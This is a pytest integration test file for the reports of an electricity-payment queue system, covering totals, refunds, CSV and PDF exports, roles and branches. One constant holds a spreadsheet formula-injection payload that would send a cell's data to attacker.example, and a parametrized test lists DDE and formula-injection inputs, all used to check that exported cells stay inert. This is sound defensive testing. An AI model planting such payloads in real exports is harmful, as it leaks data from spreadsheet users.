"""Reports through a real `qms serve` with two branches (PE0100 on CMIS 2.0, PE0200 on
CMIS 1.0) and real payments: totals equal the sum of the payments, refused and reversed
money is shown apart, the CSV and the PDF hold the same totals, roles and bad input are
refused in the one error shape, and the company sees both branches."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import re
import subprocess
import sys
import time
from collections import defaultdict
from collections.abc import Iterator
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
import yaml
from pypdf import PdfReader

from integrations.bank import signing
from printers.formats import vnd
from qms.usecases import csv_safe, report_export
from qms.words import status_text
from qms.words.in_words import amount_in_words
from tests.conftest import Customers, HallServer
from tests.hallclient import ApiError, Staff
from tests.wsclient import ViewClient

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
OTHER = "PE0200"
PASSWORD = "reports-pass"
GIVEN_BACK = ("refused", "reversed")
SHORT = 2_000
APPROVAL_NOTE = "Thiếu 2.000 đ do thối nhầm, thu ngân đã nộp bù"
#: a reason typed by a cashier that a spreadsheet would run as a formula, if written raw
HOSTILE_REASON = '=HYPERLINK("http://attacker.example/?d="&A1,"thu nhầm khách hàng")'
BANK_SECRET = "reports-bank-secret-0123456789"
WAITING = "Chuyển khoản khi chờ / Paid by QR while waiting"


@pytest.fixture(scope="module")
def hall(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HallServer]:
    """The default hall plus a second branch, its staff added with `qms user add`."""
    server = HallServer(tmp_path_factory.mktemp("reports"))
    raw = yaml.safe_load(server.config.read_text(encoding="utf-8"))
    first = raw["branches"][0]
    raw["branches"].append(
        {
            **first,
            "id": OTHER,
            "name": "Điện lực Chợ Lớn — Phòng thu tiền",
            "collection_point": f"{OTHER}-HALL1",
            "cmis_version": "1.0",
        }
    )
    raw["bank"]["webhook_secret"] = BANK_SECRET  # the bank's notifications: signed by us
    server.config.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    server.start()  # first: demo accounts are made on an empty user table only
    try:
        add_user(server, "reception-2", "reception", "Lý Thị Đón")
        add_user(server, "lookup1-2", "lookup", "Mai Văn Tìm")
        add_user(server, "head-2", "head_cashier", "Trương Thị Quỹ")
        yield server
    finally:
        server.stop()


def add_user(server: HallServer, user: str, role: str, name: str) -> None:
    """An account of the second branch, as an operator makes it."""
    cmd = ["user", "add", user, "--role", role, "--name", name, "--branch", OTHER]
    done = subprocess.run(
        [sys.executable, "-m", "qms", *cmd, "--config", str(server.config)],
        input=PASSWORD + "\n",
        text=True,
        capture_output=True,
        cwd=server.tmp,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr


def faults(hall: HallServer, **settings: Any) -> None:
    httpx.put(f"{hall.cmis_url}/admin/faults", json=settings, timeout=10).raise_for_status()


def serve(desk: dict[str, Staff], cashier: Staff, code: str) -> tuple[int, list[dict[str, Any]]]:
    """Issue a ticket, find its papers, call it at the cashier: (number, invoices)."""
    t = desk["reception"].post("/api/tickets", {"customers": [code]})
    invoices = t["customers"][0]["invoices"]
    for inv in invoices:
        desk[inv["lookup"]].post(f"/api/tickets/{t['number']}/invoices/{inv['invoice_id']}/found")
    cashier.act("call", number=t["number"])
    return t["number"], invoices


def collect(cashier: Staff, invoices: list[dict[str, Any]]) -> str:
    paid = cashier.act(
        "collect",
        invoices=[i["invoice_id"] for i in invoices],
        amount=sum(i["total"] for i in invoices),
    )
    return str(paid["payments"][0]["txn_id"])


def pay_by_qr(hall: HallServer, qr: dict[str, Any], bank_txn: str) -> str:
    """The bank's signed notification that the QR was paid in full; our txn id."""
    raw = json.dumps(
        {
            "transaction_id": bank_txn,
            "account": qr["account"],
            "amount": qr["amount"],
            "currency": "VND",
            "description": f"{qr['ref']} thanh toan tien dien",
            "credited_at": dt.datetime.now(TZ).isoformat(),
        }
    ).encode()
    headers = signing.headers(BANK_SECRET, int(time.time()), raw)
    r = httpx.post(f"{hall.base}/api/bank/notifications", content=raw, headers=headers)
    r.raise_for_status()
    credit = r.json()["credit"]
    assert credit["status"] == "applied", credit
    (txn,) = credit["payments"]
    return str(txn)


def settle(view: ViewClient, wanted: dict[str, str]) -> None:
    """Apply frames (each wait bounded) until every txn's event arrived."""
    left = dict(wanted)
    while left:
        msg = view.recv(timeout=30)
        view.apply(msg)
        payment = (msg.get("data") or {}).get("payment") or {}
        if left.get(payment.get("txn_id")) == msg.get("event"):
            del left[payment["txn_id"]]


@pytest.fixture(scope="module")
def day(
    hall: HallServer, staff: dict[str, Staff], customers: Customers
) -> Iterator[dict[str, Any]]:
    """A day of both branches. PE0100: five payments at three cashiers (one of two
    invoices), one reversed, one refused by CMIS, a paper returned, money handed from C1 to
    C4. PE0200: one payment, the drawer closed, the business day closed."""
    desk = {"reception": staff["reception"], "even": staff["even"], "odd": staff["odd"]}
    other = {
        "reception": Staff(hall.base, "reception-2", "R1", PASSWORD),
        "even": Staff(hall.base, "lookup1-2", "LE", PASSWORD),
        "head": Staff(hall.base, "head-2", "C4", PASSWORD),
    }
    admin = Staff(hall.base, "admin", None)
    views = [
        ViewClient(hall.ws_url, who.token, "supervisor").connect()
        for who in (staff["sup"], other["head"])
    ]
    for v in views:
        v.apply(v.recv())
    c1, c2, c3, c4 = (staff[c] for c in ("c1", "c2", "c3", "c4"))
    wanted: dict[str, str] = {}
    try:
        for cashier, n in ((c1, 2), (c1, 1), (c2, 1), (c4, 1), (c2, 1)):
            _, invoices = serve(desk, cashier, customers.take(invoices=n))
            wanted[collect(cashier, invoices)] = "payment.confirmed"
        reversed_txn = list(wanted)[-1]
        number, invoices = serve(desk, c1, customers.take(invoices=2))  # pays one period only
        wanted[collect(c1, invoices[:1])] = "payment.confirmed"
        c1.act(
            "return", ticket=number, invoices=[invoices[1]["invoice_id"]], reason="not_enough_money"
        )
        c1.act("finish")
        settle(views[0], wanted)
        c2.post(f"/api/payments/{reversed_txn}/reverse", {"reason": HOSTILE_REASON})
        # CMIS is slow: the customer pays at a bank before our payment reaches CMIS
        _, invoices = serve(desk, c3, customers.take(invoices=1))
        faults(hall, latency_ms=1500)
        try:
            refused_txn = collect(c3, invoices)
            httpx.post(
                f"{hall.cmis_url}/admin/invoices/{invoices[0]['invoice_id']}/paid-elsewhere"
            ).raise_for_status()
            settle(views[0], {refused_txn: "payment.refused", reversed_txn: "payment.reversed"})
        finally:
            faults(hall)
        # VietQR: one shown at C2 and paid there, one printed on a ticket and paid while
        # it waited (never called): at the bank, in no drawer
        _, invoices = serve(desk, c2, customers.take(invoices=1))
        ids = [i["invoice_id"] for i in invoices]
        shown = c2.post("/api/counters/C2/qr", {"invoices": ids, "amount": invoices[0]["total"]})
        qr_counter = pay_by_qr(hall, shown, "FT26341000001")
        waiting = desk["reception"].post("/api/tickets", {"customers": [customers.take()]})
        qr_waiting = pay_by_qr(hall, waiting["qr"], "FT26341000002")
        settle(views[0], {qr_counter: "payment.confirmed", qr_waiting: "payment.confirmed"})
        c1.post("/api/cash/movements", {"side": "out", "cashier": "head", "amount": 100_000})
        c4.post("/api/cash/movements", {"side": "in", "cashier": "cashier1", "amount": 100_000})
        # C1 counts 2.000 đ short; the supervisor accepts the difference, saying why
        should = c1.get("/api/cash/mine")["drawer"]["balance"]["expected"]
        short = c1.post("/api/cash/drawer/close", {"counted": should - SHORT})
        staff["sup"].post(f"/api/cash/drawers/{short['id']}/approve", {"note": APPROVAL_NOTE})

        head = other["head"]
        head.open_drawer()
        _, invoices = serve(other, head, customers.take(invoices=1, parity="even"))
        other_txn = collect(head, invoices)
        settle(views[1], {other_txn: "payment.confirmed"})
        counted = sum(i["total"] for i in invoices)
        deposit = {"amount": counted, "bank": "Vietcombank", "reference": "NT-0001"}
        head.post("/api/cash/drawer/close", {"counted": counted, "deposit": deposit})
        head.post("/api/cash/day/close")
        yield {
            "today": staff["sup"].get("/api/snapshot?view=supervisor")["data"]["business_day"],
            "refused": refused_txn,
            "reversed": reversed_txn,
            "other": other,
            "other_total": counted,
            "admin": admin,
            "qr_counter": qr_counter,
            "qr_waiting": qr_waiting,
        }
    finally:
        for v in views:
            v.close()
        for s in (*other.values(), admin):
            s.close()


def expected(payments: list[dict[str, Any]], key: Any) -> dict[Any, dict[str, int]]:
    """What a report must show, summed here from `GET /api/payments` alone."""
    out: dict[Any, dict[str, int]] = defaultdict(
        lambda: {"payments": 0, "collected": 0, "given_back": 0, "net": 0, "net_count": 0}
    )
    for p in payments:
        t = out[key(p)]
        t["payments"] += 1
        t["collected"] += p["total"]
        if p["status"] in GIVEN_BACK:
            t["given_back"] += p["total"]
        else:
            t["net"] += p["total"]
            t["net_count"] += 1
    return dict(out)


def figures(row: dict[str, Any]) -> dict[str, int]:
    return {k: int(row[k]) for k in ("payments", "collected", "given_back", "net", "net_count")}


def hour(p: dict[str, Any]) -> int:
    return dt.datetime.fromisoformat(p["created_at"]).astimezone(TZ).hour


def refused(person: Staff, path: str, status: int, code: str) -> dict[str, Any]:
    with pytest.raises(ApiError) as err:
        person.get(path)
    assert (err.value.status, err.value.code) == (status, code), err.value.body
    return err.value.body["error"]  # type: ignore[no-any-return]


def test_totals_equal_the_sum_of_payments(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    sup = staff["sup"]
    payments = sup.get(f"/api/payments?date={day['today']}")["payments"]
    report = sup.get("/api/reports")
    assert (report["level"], report["from"], report["to"]) == ("branch", day["today"], day["today"])
    assert [b["id"] for b in report["branches"]] == ["PE0100"]
    assert figures(report["totals"]) == expected(payments, lambda p: None)[None]
    assert report["totals"]["net"] == report["totals"]["collected"] - report["totals"]["given_back"]
    by = {
        "by_cashier": (lambda p: p["cashier"].removeprefix("user:"), "cashier"),
        "by_counter": (lambda p: p["counter"], "counter"),
        "by_hour": (hour, "hour"),
        "by_day": (lambda p: p["business_day"], "date"),
    }
    for section, (key, field) in by.items():
        shown = {r[field]: figures(r) for r in report[section]}
        assert shown == expected(payments, key), section
    assert sorted(t["txn_id"] for t in report["transactions"]) == sorted(
        p["txn_id"] for p in payments
    )
    assert {r["cashier"]: r["name"] for r in report["by_cashier"]}["cashier1"] == "Phạm Thu Ngân"
    # the drawers count the cash, the bank the rest; CMIS has both
    t = report["totals"]
    cash = sup.get("/api/cash")["totals"]
    assert (cash["collected"], cash["noncash"]) == (t["net_cash"], t["net_vietqr"])
    assert t["net_cash"] + t["net_vietqr"] == t["net"] and t["payments_vietqr"] == 2
    (recon,) = report["reconciliation"]["days"]
    assert recon["available"] and recon["open_items"] == 0
    assert recon["our_total"] == recon["cmis_total"] == t["net"]
    assert (recon["our_cash"], recon["our_vietqr"]) == (t["net_cash"], t["net_vietqr"])
    assert report["by_day"][0]["closed"] is False


def test_refused_and_reversed_are_shown_apart(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    report = staff["c4"].get("/api/reports")  # the head cashier reads reports too
    rows = {t["txn_id"]: t for t in report["transactions"]}
    refused_row, reversed_row = rows[day["refused"]], rows[day["reversed"]]
    assert (refused_row["status"], refused_row["counts"]) == ("refused", False)
    assert (reversed_row["status"], reversed_row["counts"]) == ("reversed", False)
    assert reversed_row["reversal_reason"] == HOSTILE_REASON
    assert refused_row["error"].startswith("051") and reversed_row["error"] is None
    t = report["totals"]
    assert (t["refused_count"], t["refused"]) == (1, refused_row["total"])
    assert (t["reversed_count"], t["reversed"]) == (1, reversed_row["total"])
    assert t["given_back"] == t["refused"] + t["reversed"]
    assert report["by_status"]["refused"] == {"count": 1, "total": refused_row["total"]}
    assert report["by_status"]["reversed"] == {"count": 1, "total": reversed_row["total"]}
    assert report["by_status"]["confirmed"]["total"] == t["net"] and t["unconfirmed"] == 0
    c3 = next(r for r in report["by_counter"] if r["counter"] == "C3")
    assert (c3["collected"], c3["net"], c3["name"]) == (refused_row["total"], 0, "Quầy 3")


def test_returns_movements_and_times(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    report = staff["sup"].get("/api/reports")
    (back,) = report["returns"]["returned"]
    assert (back["returned_reason"], back["returned_by"]) == ("not_enough_money", "user:cashier1")
    assert back["returned_by_name"] == "Phạm Thu Ngân" and back["delivered_to"] == "C1"
    assert report["returns"]["summary"]["by_reason"] == {
        "not_enough_money": {"count": 1, "total": back["total"]}
    }
    (move,) = report["movements"]["rows"]
    assert (move["from_cashier"], move["to_cashier"], move["status"]) == (
        "cashier1",
        "head",
        "matched",
    )
    assert (move["from_name"], move["to_name"]) == ("Phạm Thu Ngân", "Đặng Văn Trưởng")
    assert report["movements"]["summary"]["matched_total"] == 100_000
    stats = staff["sup"].get(f"/api/stats/hourly?date={day['today']}")
    # the same figures (the charts also split them by lane: docs/priority.md)
    busy = [
        {k: v for k, v in h.items() if k != "lanes"}
        for h in stats["hours"]
        if h["issued"] or h["called"] or h["served"]
    ]
    assert report["times"]["by_hour"] == busy
    assert report["times"]["overall"] == stats["day"]
    # priority customers and the others apart, as the supervisor's charts count them
    lanes = {row.pop("lane"): row for row in report["times"]["by_lane"]}
    assert lanes == stats["lanes"]
    assert lanes["priority"]["called"] + lanes["normal"]["called"] == stats["day"]["called"]
    assert report["closures"] == []


def test_date_range_filter(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    sup, today = staff["sup"], dt.date.fromisoformat(day["today"])
    yesterday = (today - dt.timedelta(days=1)).isoformat()
    before = sup.get(f"/api/reports?from={yesterday}&to={yesterday}")
    assert before["totals"]["payments"] == 0 and before["transactions"] == []
    assert before["returns"]["returned"] == [] and before["movements"]["rows"] == []
    assert [r["date"] for r in before["reconciliation"]["days"]] == [yesterday]
    both = sup.get(f"/api/reports?from={yesterday}")  # to: today
    assert both["days"] == 2 and both["totals"] == sup.get("/api/reports")["totals"]
    assert [r["date"] for r in both["by_day"]] == [day["today"]]
    longest = (today - dt.timedelta(days=91)).isoformat()
    assert sup.get(f"/api/reports?from={longest}")["reconciliation"]["summary"]["days"] == 92


def csv_file(raw: bytes) -> dict[str, dict[str, Any]]:
    """Each ``#key`` section: its ``rows`` keyed by the JSON key in the header's
    parentheses, its ``total`` row (first cell "Tổng cộng …") and its ``notes``."""
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "#report"
    out: dict[str, dict[str, Any]] = {}
    for n, row in enumerate(rows):
        if row and row[0].startswith("#") and n:
            keys = [re.search(r"\((\w+)\)$", h).group(1) for h in rows[n + 1]]  # type: ignore[union-attr]
            section: dict[str, Any] = {"rows": [], "total": None, "notes": []}
            for r in rows[n + 2 :]:
                if not r:
                    break
                if len(r) == 1:
                    section["notes"].append(r[0])
                elif r[0].startswith("Tổng cộng"):
                    section["total"] = dict(zip(keys, r, strict=True))
                else:
                    section["rows"].append(dict(zip(keys, r, strict=True)))
            out[row[0][1:]] = section
    return out


def csv_sections(raw: bytes) -> dict[str, list[dict[str, str]]]:
    """Each ``#key`` section's rows, keyed by the JSON key in the header's parentheses."""
    return {key: section["rows"] for key, section in csv_file(raw).items()}


def test_csv_parses_and_its_totals_match(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    sup = staff["sup"]
    report = sup.get("/api/reports")
    r = sup.http.get("/api/reports?format=csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == (
        f'attachment; filename="report-branch-PE0100-{day["today"]}-{day["today"]}.csv"'
    )
    sections = csv_sections(r.content)
    (summary,) = sections["summary"]
    assert figures(summary) == figures(report["totals"])
    txns = sections["transactions"]
    assert (
        sum(int(t["total"]) for t in txns if t["counts"] == status_text("bool", "true"))
        == report["totals"]["net"]
    )
    assert {t["txn_id"] for t in txns} == {t["txn_id"] for t in report["transactions"]}
    cashiers = {c["cashier"]: figures(c) for c in sections["by_cashier"]}
    # an account as it is; the QRs paid while waiting (bank:vietqr) in words
    assert cashiers == {
        status_text("taken_by", c["cashier"]): figures(c) for c in report["by_cashier"]
    }
    assert sum(int(c["net"]) for c in sections["by_cashier"]) == report["totals"]["net"]
    assert {c["name"] for c in sections["by_cashier"]} >= {"Phạm Thu Ngân", "Hoàng Văn Thu"}
    assert [x["returned_reason"] for x in sections["returns"]] == [
        status_text("reason", "not_enough_money")
    ]
    # a cell a spreadsheet would run as a formula is written as text
    (reversal,) = [t for t in txns if t["txn_id"] == day["reversed"]]
    assert reversal["reversal_reason"] == "'" + HOSTILE_REASON
    assert all(not v.startswith(("=", "+", "@")) for t in txns for v in t.values())


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5000", "-5000"),  # a shortfall stays a number the sheet can sum
        ("thu nhầm", "thu nhầm"),
    ],
)
def test_every_exported_cell_is_inert(typed: str, written: str) -> None:
    buf = io.StringIO()
    csv_safe.Writer(buf).writerow([typed])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [written]


def pdf_text(raw: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(raw)).pages)


def test_pdf_text_has_the_totals_in_vietnamese(
    staff: dict[str, Staff], day: dict[str, Any]
) -> None:
    sup = staff["sup"]
    report = sup.get("/api/reports")
    r = sup.http.get("/api/reports?format=pdf")
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    assert r.headers["content-disposition"].endswith(f'-{day["today"]}.pdf"')
    text = pdf_text(r.content)
    for words in (
        "BÁO CÁO THU TIỀN ĐIỆN",
        "Thu ngân",
        "Tổng cộng",
        "Thực thu",
        "Đối soát CMIS",
        "Hóa đơn trả lại",
        "Khách không đủ tiền",
        "Phạm Thu Ngân",
        "Đặng Văn Trưởng",
    ):
        assert words in text, words
    assert f"Tổng cộng thực thu / Net total: {vnd(report['totals']['net'])}" in text
    for key in ("collected", "refused", "reversed"):
        assert vnd(report["totals"][key]) in text, key
    for c in report["by_cashier"]:
        assert vnd(c["net"]) in text, c


#: codes a program reads in the JSON; a person never reads them in a CSV or a PDF
RAW_CODES = {
    "true",
    "false",
    *("pending", "confirmed", "refused", "reversal_pending", "reversed"),
    *("matched", "hanging", "mismatch", "cancelled", "open", "pending_approval", "closed"),
    *("not_enough_money", "fewer_periods", "customer_left", "paid_elsewhere"),
    *("only_ours", "only_cmis", "amount_differs", "even", "odd", "cashier", "head_cashier"),
    *("cash", "vietqr", "bank:vietqr"),
}


def flat(text: str) -> str:
    return " ".join(text.split())


def pdf_form(value: str, column: report_export.Column) -> str:
    """A CSV cell as the PDF writes it: money as 2.002.089 đ, seconds as m:ss."""
    if value and column.kind == "money":
        return vnd(int(value))
    if value and column.kind == "seconds":
        return f"{int(value) // 60}:{int(value) % 60:02d}"
    return value


@pytest.fixture(scope="module")
def exports(staff: dict[str, Staff], day: dict[str, Any]) -> dict[str, Any]:
    """The day's branch report as JSON, its CSV's sections and its PDF's text, once."""
    sup = staff["sup"]
    return {
        "report": sup.get("/api/reports"),
        "sheet": csv_file(sup.http.get("/api/reports?format=csv").content),
        "text": pdf_text(sup.http.get("/api/reports?format=pdf").content),
    }


def test_csv_and_pdf_say_the_same(exports: dict[str, Any]) -> None:
    """Every row and total of every table of the PDF is a row of the CSV, cell for cell,
    in the same words; the net in words and the signers are in both."""
    report, sheet, text = exports["report"], exports["sheet"], flat(exports["text"])
    tables = [s for s in report_export.sections(report) if s.table]
    assert {s.key for s in tables} < set(sheet)
    checked = 0
    for s in tables:
        got, shown = sheet[s.key], [c for c in s.columns if c.pdf]
        assert len(got["rows"]) == len(s.rows), s.key
        for row in got["rows"]:
            line = " ".join(filter(None, (pdf_form(row[c.key], c) for c in shown)))
            assert line in text, (s.key, line)
            checked += 1
        assert (got["total"] is None) == (s.total is None), s.key
        if got["total"] is not None:
            figures_ = [pdf_form(got["total"][c.key], c) for c in shown[1:]]
            line = " ".join(filter(None, [s.total_label, *figures_]))
            assert line in text, (s.key, line)
    assert checked >= 7 + 4 + 4  # transactions, drawers, cashiers at least
    notes = [n for s in tables for n in sheet[s.key]["notes"]]
    assert notes and all(flat(n) in text for n in notes)
    counted = sum(r["counted"] or 0 for r in report["drawers"]["rows"])
    assert f"Tổng tiền kiểm đếm / Counted in total: {vnd(counted)}. Bằng chữ / In words: " in text
    (summary,) = sheet["summary"]["rows"]
    assert summary["net_in_words"] == amount_in_words(report["totals"]["net"])
    assert summary["net_in_words"].startswith("Bốn triệu chín trăm mười tám nghìn")  # 4.918.574 đ
    assert f"Bằng chữ / In words: {summary['net_in_words']}" in text
    # cash and VietQR apart: each money column again per method, and a row of its own for
    # the QRs paid while waiting, named in words, in the CSV and the PDF alike
    t = report["totals"]
    assert (int(summary["net_cash"]), int(summary["net_vietqr"])) == (
        t["net_cash"],
        t["net_vietqr"],
    )
    split = (
        f"Trong đó tiền mặt / Of which cash: {vnd(t['net_cash'])}; VietQR: {vnd(t['net_vietqr'])}"
    )
    assert split in text
    (waiting,) = [r for r in sheet["by_cashier"]["rows"] if r["name"] == WAITING]
    assert (waiting["net_cash"], waiting["net_vietqr"]) == ("0", waiting["net"])
    (counter_qr,) = [r for r in sheet["transactions"]["rows"] if r["bank_txn"] == "FT26341000001"]
    assert (counter_qr["method"], counter_qr["counter"]) == ("Chuyển khoản VietQR", "C2")
    assert f"{counter_qr['txn_id']} C2 Hoàng Văn Thu" in text
    assert "Chuyển khoản VietQR FT26341000001" in text and "FT26341000002" in text
    assert {r["method"] for r in sheet["transactions"]["rows"]} == {
        "Tiền mặt",
        "Chuyển khoản VietQR",
    }
    signers = sheet["signatures"]["rows"]
    assert [r["role"] for r in signers] == [
        "Người lập biểu",
        "Thủ quỹ",
        "Kế toán trưởng / Trưởng phòng",
    ]
    # who asked, and the day's head cashier (the chief accountant signs by hand)
    assert [r["name"] for r in signers] == ["Bùi Thị Giám Sát", "Đặng Văn Trưởng", ""]
    for r in signers:
        signed = f"{r['role'].upper()} {r['role_en']} (Ký, ghi rõ họ tên / Signature, full name)"
        assert flat(f"{signed} {r['name']}") in text, r


def test_no_code_or_true_false_reaches_a_person(exports: dict[str, Any]) -> None:
    sheet = exports["sheet"]
    cells = {v for s in sheet.values() for r in s["rows"] for v in r.values()}
    assert not cells & RAW_CODES
    statuses = {r["status"] for r in sheet["transactions"]["rows"]}
    assert statuses == {status_text("payment", s) for s in ("confirmed", "reversed", "refused")}
    assert {r["counts"] for r in sheet["transactions"]["rows"]} == {
        status_text("bool", "true"),
        status_text("bool", "false"),
    }
    assert all(
        re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", r["at"]) for r in sheet["transactions"]["rows"]
    )
    assert all(re.fullmatch(r"\d\d/\d\d/\d{4}", r["date"]) for r in sheet["by_day"]["rows"])
    text = exports["text"]
    assert not re.search(r"\b(true|false|None)\b", text)
    assert not [c for c in RAW_CODES if "_" in c and c in text]
    assert not re.search(r"\d{4}-\d\d-\d\d", text)  # no ISO date


def test_each_drawer_adds_up(exports: dict[str, Any]) -> None:
    """Float + collected − given back + moved in − moved out = what should be there; the
    count less that is the difference a supervisor approved, with their note."""
    report, sheet = exports["report"], exports["sheet"]["drawers"]
    rows = {r["cashier_name"]: r for r in sheet["rows"]}
    assert set(rows) == {"Phạm Thu Ngân", "Hoàng Văn Thu", "Võ Thị Tiền", "Đặng Văn Trưởng"}

    def n(row: dict[str, str], key: str) -> int:
        return int(row[key] or 0)

    for r in sheet["rows"]:
        inflow = n(r, "float") + n(r, "collected") - n(r, "given_back") + n(r, "money_in")
        assert inflow - n(r, "money_out") == n(r, "expected"), r
    c1 = rows["Phạm Thu Ngân"]
    assert (c1["status"], n(c1, "money_out")) == (status_text("drawer", "closed"), 100_000)
    assert n(c1, "counted") - n(c1, "expected") == n(c1, "difference") == -SHORT
    assert (c1["approved_by"], c1["approval_note"]) == ("Bùi Thị Giám Sát", APPROVAL_NOTE)
    assert rows["Đặng Văn Trưởng"]["money_in"] == "100000"
    assert (
        rows["Hoàng Văn Thu"]["status"] == status_text("drawer", "open")
        and rows["Hoàng Văn Thu"]["counted"] == ""
    )
    total = sheet["total"]
    for key in ("float", "collected", "given_back", "money_in", "money_out", "expected"):
        assert n(total, key) == sum(n(r, key) for r in sheet["rows"]), key
    t = report["totals"]  # a drawer counts cash only: the QR payments are at the bank
    assert (n(total, "collected"), n(total, "given_back")) == (
        t["collected_cash"],
        t["given_back_cash"],
    )
    assert n(total, "expected") == t["net_cash"]  # floats of 0; money moved stays in the hall
    assert n(total, "difference") == -SHORT
    text = flat(exports["text"])
    assert "Két tiền từng thu ngân / Cash drawers" in text and APPROVAL_NOTE in text


def test_transactions_name_their_customers(exports: dict[str, Any]) -> None:
    report, text = exports["report"], flat(exports["text"])
    for t in report["transactions"]:
        name = t["customer_name"]
        assert name and name != t["customer_code"], t
        cells = (t["txn_id"], t["counter"], t["cashier_name"], t["customer_code"], name)
        assert flat(" ".join(cells)) + " " in text, t


def test_roles(hall: HallServer, staff: dict[str, Staff], day: dict[str, Any]) -> None:
    for who in ("c1", "even", "reception"):
        refused(staff[who], "/api/reports", 403, "wrong_role")
    sup = staff["sup"]
    for query in ("level=company", f"branch={OTHER}", f"level=hall&hall={OTHER}-HALL1"):
        refused(sup, f"/api/reports?{query}", 403, "wrong_role")
    assert httpx.get(f"{hall.base}/api/reports").status_code == 401
    mine = sup.get("/api/reports?level=hall")
    assert mine["level"] == "hall" and mine["halls"] == ["PE0100-HALL1"]
    assert sup.get("/api/reports?branch=PE0100")["totals"] == mine["totals"]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=22/11/2026", "from"),
        ("to=yesterday", "to"),
        ("from=2026-02-30", "from"),
        ("level=city", "level"),
        ("format=xlsx", "format"),
        ("level=branch&hall=PE0100-HALL1", "hall"),
    ],
)
def test_bad_input_is_400(staff: dict[str, Staff], query: str, field: str) -> None:
    err = refused(staff["sup"], f"/api/reports?{query}", 400, "invalid_request")
    assert err["details"]["field"] == field and err["message"]


def test_bad_ranges_are_400(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    sup, today = staff["sup"], dt.date.fromisoformat(day["today"])

    def ask(start: dt.date, end: dt.date) -> dict[str, Any]:
        return refused(sup, f"/api/reports?from={start}&to={end}", 400, "invalid_request")

    assert ask(today, today - dt.timedelta(days=1))["details"]["field"] == "from"
    assert ask(today, today + dt.timedelta(days=1))["details"]["field"] == "to"
    too_long = ask(today - dt.timedelta(days=92), today)
    assert too_long["details"] == {"field": "from", "max_days": 92}
    admin = day["admin"]
    refused(admin, "/api/reports?level=company&branch=PE0100", 400, "invalid_request")
    refused(admin, "/api/reports?branch=PE0900", 404, "unknown_branch")
    refused(admin, "/api/reports?level=hall&hall=X-HALL9", 404, "unknown_hall")


def test_company_view_across_branches(staff: dict[str, Staff], day: dict[str, Any]) -> None:
    admin, head2 = day["admin"], day["other"]["head"]
    company = admin.get("/api/reports?level=company")
    assert [b["id"] for b in company["branches"]] == ["PE0100", OTHER]
    assert company["halls"] == ["PE0100-HALL1", f"{OTHER}-HALL1"]
    ours = staff["sup"].get("/api/reports")
    theirs = head2.get("/api/reports")  # PE0200's head cashier: their own branch
    assert [b["id"] for b in theirs["branches"]] == [OTHER]
    assert theirs["totals"]["net"] == day["other_total"]
    assert theirs["totals"]["net"] == sum(
        p["total"] for p in head2.get("/api/payments")["payments"]
    )
    by_branch = {r["branch"]: figures(r) for r in company["by_branch"]}
    assert by_branch == {"PE0100": figures(ours["totals"]), OTHER: figures(theirs["totals"])}
    assert {r["hall"] for r in company["by_hall"]} == set(company["halls"])
    assert company["totals"]["net"] == ours["totals"]["net"] + theirs["totals"]["net"]
    assert {(r["branch"], r["counter"]) for r in company["by_counter"]} >= {
        ("PE0100", "C4"),
        (OTHER, "C4"),
    }
    (closed,) = company["closures"]
    assert (closed["branch"], closed["date"], closed["closed_by"]) == (
        OTHER,
        day["today"],
        "user:head-2",
    )
    assert closed["closed_by_name"] == "Trương Thị Quỹ", "the report names who closed in full"
    assert closed["summary"]["deposit"]["reference"] == "NT-0001"
    assert {(r["branch"], r["closed"]) for r in company["by_day"]} == {
        ("PE0100", False),
        (OTHER, True),
    }
    recon = {r["branch"]: r for r in company["reconciliation"]["days"]}
    assert recon[OTHER]["available"] and recon[OTHER]["cmis_total"] == day["other_total"]
    assert admin.get(f"/api/reports?branch={OTHER}")["totals"] == theirs["totals"]
    assert admin.get(f"/api/reports?level=hall&hall={OTHER}-HALL1")["totals"] == theirs["totals"]
    r = admin.http.get("/api/reports?level=company&format=pdf")
    assert r.headers["content-disposition"].startswith('attachment; filename="report-company-')
    text = pdf_text(r.content)
    assert "Điện lực Chợ Lớn" in text and "Trương Thị Quỹ" in text
    assert f"Tổng cộng thực thu / Net total: {vnd(company['totals']['net'])}" in text
    r = admin.http.get("/api/reports?level=company&format=csv")
    assert {b["branch"] for b in csv_sections(r.content)["by_branch"]} == {"PE0100", OTHER}


def test_report_renders_with_cmis_down(
    hall: HallServer, staff: dict[str, Staff], day: dict[str, Any]
) -> None:
    sup = staff["sup"]
    healthy = sup.get("/api/reports")
    faults(hall, down=True)
    try:
        report = sup.get("/api/reports")
        r = sup.http.get("/api/reports?format=pdf")
    finally:
        faults(hall)
    assert report["totals"] == healthy["totals"]
    (recon,) = report["reconciliation"]["days"]
    assert recon["available"] is False and recon["error"]
    assert recon["our_total"] == healthy["totals"]["net"]
    assert report["reconciliation"]["summary"]["unavailable"] == 1
    assert r.status_code == 200 and vnd(healthy["totals"]["net"]) in pdf_text(r.content)
